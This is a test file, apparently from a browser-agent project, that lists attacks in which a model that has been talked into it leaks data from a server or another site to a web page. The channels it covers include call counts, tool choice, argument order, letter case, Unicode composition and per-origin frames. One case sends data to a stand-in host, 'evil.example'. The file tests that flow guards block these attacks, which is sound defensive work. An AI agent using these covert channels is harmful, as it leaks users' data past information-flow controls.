/** How a site could learn what another site, a server or a file said, with the help of a model that was talked into it. */
import { expect } from 'vitest';
import type { Grant } from '#agent';
import type { ToolLayer } from '#tools';
import { aPage, aServer } from '../support/tool-layers';
import { attacksBy } from './attack';
import { type Loop, object, reads, secret } from './loop';

const told = '4711';
const nothing = object({});
const own = (tool: string) => `music_example_webmcp_${tool}`;
const names = (count: number) => Array.from({ length: count }, (_, i) => `t${i}`);
const manyCalls = (count: number, call: (i: number) => { name: string; input?: Record<string, unknown> }) => ({
  calls: Array.from({ length: count }, (_, i) => call(i)),
});
/** A page's answers, of which no two are the same. */
const everOther = () => {
  let n = 0;
  return () => `Answer ${++n}`;
};

/** The page offers nothing but these, which only read. */
const offers = (loop: Loop, inputSchema: Record<string, unknown>, ...tools: string[]) =>
  loop.pageOffers(...tools.map((name) => ({ name, hints: reads, inputSchema, run: everOther() })));

/** Frames of a page, each under an origin of its own. */
function frame(i: number, made: string[]): ToolLayer {
  const host = `f${i}.ads.example`;
  const layer = aPage(host, [{ name: 'ping', hints: reads }], made);
  const inPage = (tool: (typeof layer.tools)[number]) =>
    tool.source.type === 'page'
      ? { ...tool, source: { ...tool.source, topOrigin: 'https://ads.example', documentId: host } }
      : tool;
  return { ...layer, documentId: host, tools: layer.tools.map(inPage) };
}

/** The user always lets the page’s data go to the server. */
const mayFlow: Grant = {
  ...{ key: 'flow site https://music.example > server weather', definitionHash: '', description: '', at: 1 },
  about: {
    type: 'flow',
    from: { type: 'site', origin: 'https://music.example' },
    to: { type: 'server', serverId: 'weather', name: 'weather' },
  },
};

export const byFlow = [
  ...attacksBy<Loop>('page', 'flow', [
    {
      name: 'holds what a stranger wrote, who has a server tell it to any place in the world',
      breach: 'What may always go from a mailbox to the web goes to whoever writes a mail.',
      guard: 'no flow into the open world is for good',
      async attempt(loop) {
        loop.pageOffers({ ...loop.tools.look, hints: { ...reads, untrustedContent: true } });
        loop.serverOffers({ ...loop.tools.forecast, hints: { ...reads, openWorld: true } });
        await loop.store.saveGrant(mayFlow);
        await loop.runs(loop.searches(), loop.asksServer('evil.example/4711'));
        expect(loop.server.made).toEqual([]);
      },
    },
    {
      name: 'is told a server’s answer as an argument',
      breach: 'The page has the answer.',
      guard: 'data of others asks',
      async attempt(loop) {
        await loop.runs(loop.asksServer(), loop.searches(secret));
        loop.pageWasTold();
      },
    },
    {
      name: 'learns a server’s answer in one long number',
      breach: 'Three characters are out with each call.',
      guard: 'a call carries little',
      async attempt(loop) {
        offers(loop, object({ page: { type: 'integer' } }), 'search_library', 'other');
        await loop.runs(loop.asksServer(), loop.calls(own('search_library'), { page: 20_000 }));
        loop.pageWasTold();
      },
    },
    {
      name: 'learns a server’s answer bit by bit, in many small calls',
      breach: 'A key of 64 bits is out after one turn.',
      guard: 'all calls have one account',
      async attempt(loop) {
        offers(loop, nothing, 'zero', 'one');
        await loop.runs(
          loop.asksServer(),
          manyCalls(64, (i) => ({ name: own(i % 3 ? 'zero' : 'one') })),
        );
        expect(loop.page.made.length).toBeLessThan(40);
      },
    },
    {
      name: 'learns a server’s answer by which of its tools is called',
      breach: 'Each call without an argument says three bits.',
      guard: 'the choice of a tool is charged',
      async attempt(loop) {
        offers(loop, nothing, ...names(8));
        await loop.runs(
          loop.asksServer(),
          manyCalls(40, (i) => ({ name: own(`t${(i * 5) % 8}`) })),
        );
        expect(loop.page.made.length).toBeLessThan(20);
      },
    },
    {
      name: 'learns a server’s answer by how often its only tool is called',
      breach: 'A number is out, in calls that say nothing.',
      guard: 'the moment of a call is charged',
      async attempt(loop) {
        offers(loop, nothing, 'search_library');
        const turn = manyCalls(100, () => ({ name: own('search_library') }));
        await loop.runs(loop.asksServer(), turn, turn);
        expect(loop.page.made.length).toBeLessThan(140);
      },
    },
    {
      name: 'learns a server’s answer by which empty members are there',
      breach: 'Each call says twelve bits in members that hold nothing.',
      guard: 'optional members are charged',
      async attempt(loop) {
        offers(loop, object(Object.fromEntries(names(12).map((name) => [name, { const: '' }]))), 'search_library');
        const some = (i: number) => names(12).filter((_, n) => (i + n) % 2 === 0 || n === i);
        const input = (i: number) => Object.fromEntries(some(i).map((name) => [name, '']));
        await loop.runs(
          loop.asksServer(),
          manyCalls(10, (i) => ({ name: own('search_library'), input: input(i) })),
        );
        expect(loop.page.made.length).toBeLessThan(8);
      },
    },
    {
      name: 'learns a server’s answer by the order of its arguments',
      breach: 'Twelve members in any order say 28 bits, uncharged.',
      guard: 'arguments are in the schema’s order',
      async attempt(loop) {
        offers(loop, object({ a: { const: '' }, b: { const: '' }, c: { const: '' } }), 'search_library');
        await loop.runs(loop.asksServer(), loop.calls(own('search_library'), { c: '', a: '', b: '' }));
        expect(loop.page.made.map(({ input }) => Object.keys(input).join(''))).toEqual(['abc']);
      },
    },
    {
      name: 'learns a server’s answer by the capitals of the user’s own words',
      breach: 'Each letter of a search says one bit.',
      guard: 'a quote keeps its capitals',
      async attempt(loop) {
        loop.modelDoes(loop.asksServer(), loop.searches('bLue TrAin'));
        await loop.userSays('Play Blue Train');
        loop.pageWasTold();
      },
    },
    {
      name: 'learns a server’s answer by how letters of the user’s words are composed',
      breach: 'Words that look the same say different things.',
      guard: 'a quote keeps its spelling',
      async attempt(loop) {
        loop.modelDoes(loop.asksServer(), loop.searches('Cafe\u0301 Bleu'));
        await loop.userSays('Play Café Bleu');
        loop.pageWasTold();
      },
    },
    {
      name: 'passes its own words off as the user’s, in the form of a slash command',
      breach: 'What it had the user run goes to a server unasked.',
      guard: 'words of a slash command aren’t the user’s',
      async attempt(loop) {
        const command = { layerKey: 'page:https://music.example', tool: 'search_library', input: { words: told } };
        await loop.sessions().callTool(loop.id, command);
        await loop.settles();
        await loop.runs(loop.asksServer(told));
        expect(loop.server.made).toEqual([]);
      },
    },
    {
      name: 'has a frame under a new origin for each bit',
      breach: 'Each frame has an account of its own.',
      guard: 'frames share an account',
      async attempt(loop) {
        const made: string[] = [];
        for (let i = 0; i < 17; i++) loop.alsoOffers(frame(i, made));
        await loop.runs(
          loop.asksServer(),
          manyCalls(40, (i) => ({ name: `f${(i * 5) % 17}_ads_example_webmcp_ping` })),
        );
        expect(made.length).toBeLessThan(12);
      },
    },
    {
      name: 'is told a word out of another server’s list of contacts',
      breach: 'A definition reaches another site, though no call read it.',
      guard: 'definitions are held',
      async attempt(loop) {
        const inputSchema = object({ to: { enum: ['anna.schmidt@mail.example', 'bert@mail.example'] } });
        loop.alsoOffers(aServer('mail', [{ name: 'write', hints: reads, inputSchema }]));
        await loop.runs(loop.searches('anna.schmidt@mail.example'));
        loop.pageWasTold();
      },
    },
    {
      name: 'is told a word out of a list of contacts that a model read before the background died',
      breach: 'A definition that is gone reaches another site.',
      guard: 'definitions outlive the background',
      async attempt(loop) {
        const inputSchema = object({ to: { enum: ['anna.schmidt@mail.example', 'bert@mail.example'] } });
        loop.alsoLists(async () => [aServer('mail', [{ name: 'write', hints: reads, inputSchema }])]);
        await loop.runs();
        loop.alsoLists(async () => []);
        loop.backgroundDies();
        await loop.runs(loop.searches('anna.schmidt@mail.example'));
        loop.pageWasTold();
      },
    },
  ]),
];
